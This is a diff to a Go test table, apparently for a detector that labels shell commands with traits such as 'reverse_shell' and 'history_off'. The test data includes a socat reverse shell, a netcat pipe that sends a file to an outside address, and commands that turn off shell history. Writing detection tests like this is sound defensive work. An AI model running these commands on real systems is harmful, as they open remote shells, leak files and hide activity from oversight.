@@ -237,6 +237,9 @@ func TestTraits(t *testing.T) {
 		{"bash -i", ""},
 		{"cat f | nc 203.0.113.77 80", ""},
 		{"socat TCP-LISTEN:80,fork TCP:localhost:8080", ""},
+		{"socat TCP-LISTEN:80,fork SYSTEM:\"sleep 1; echo 'HTTP/1.0 200 OK'; echo 'Content-Length\\: $_len'; echo ''; printf '%s' '$content';\"", ""},
+		{"socat TCP-LISTEN:8080,fork EXEC:'/bin/cat /srv/status.txt'", ""},
+		{"socat TCP:203.0.113.77:80 SYSTEM:'echo $(sh)'", "reverse_shell"},
 		// history_off
 		{"unset HISTFILE", "history_off"},
 		{"export HISTFILE=/dev/null", "history_off"},
